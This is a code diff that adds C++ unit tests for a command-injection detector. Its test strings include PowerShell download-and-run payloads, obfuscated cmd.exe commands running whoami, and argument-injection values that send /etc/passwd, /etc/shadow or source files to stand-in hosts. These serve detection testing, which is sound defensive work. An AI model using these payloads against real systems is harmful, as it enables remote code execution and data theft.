@@ -809,5 +809,42 @@ TEST(CmdiTest, ShellNamedByAVariable) {
   }
 }
 
+// PowerShell's own syntax after a separator: a cmdlet given a parenthesized
+// expression, a .NET static method call; cmd.exe's variable substrings; an
+// arithmetic expansion and expr's numbers as canaries.
+TEST(CmdiTest, WindowsShellsAndCanaries) {
+  for (const std::string a :
+       {"; iex(iwr http://198.51.100.4/p.ps1)", "| Invoke-Expression(irm http://x.example/a)",
+        "; [System.Net.WebClient]::new().DownloadString('http://x.example')",
+        "& [IO.File]::ReadAllText('C:/inetpub/web.config')",
+        "& c%PUBLIC:~5,1%d /c whoami", "| %COMSPEC:~-7,1%", "|expr 7 - 3",
+        ";echo probe$((40+2))"}) {
+    EXPECT_NE(testing::RuleOf(CmdiDetector(), a), "") << a;
+  }
+  for (const std::string b :
+       {"Use iex(x) in the shell", "[System.Net.Dns]::GetHostByName is slow", "cat & dog grooming",
+        "rock | pop | jazz", "node 18.x", "python 3.x", "save 50%:~ today", "Expr 5 is the answer",
+        "array[System.Int32] sizes"}) {
+    EXPECT_EQ(testing::RuleOf(CmdiDetector(), b), "") << b;
+  }
+  // A command the separator leads to still counts after "x & ".
+  EXPECT_NE(testing::RuleOf(CmdiDetector(), "cat & whoami"), "");
+}
+
+// Options of the tools an application runs, injected as arguments.
+TEST(CmdiTest, MoreArgumentInjection) {
+  for (const std::string a :
+       {"x.zip -T --unzip-command=\"sh -c id\"", "--use-askpass=/tmp/a.sh",
+        "-S /dev/shm/x user@203.0.113.5:/tmp/", "--data @/etc/passwd http://x.example/",
+        "-F f=@/var/task/index.js https://x.example/up", "-T /etc/shadow ftp://x.example/"}) {
+    EXPECT_EQ(testing::RuleOf(CmdiDetector(), a), "cmdi.argument_injection") << a;
+  }
+  for (const std::string b :
+       {"report.pdf --force", "-S 3 tickets", "-d user@example.com http://x.example/",
+        "--data name=ana https://x.example/"}) {
+    EXPECT_NE(testing::RuleOf(CmdiDetector(), b), "cmdi.argument_injection") << b;
+  }
+}
+
 }  // namespace
 }  // namespace fnguard::detect
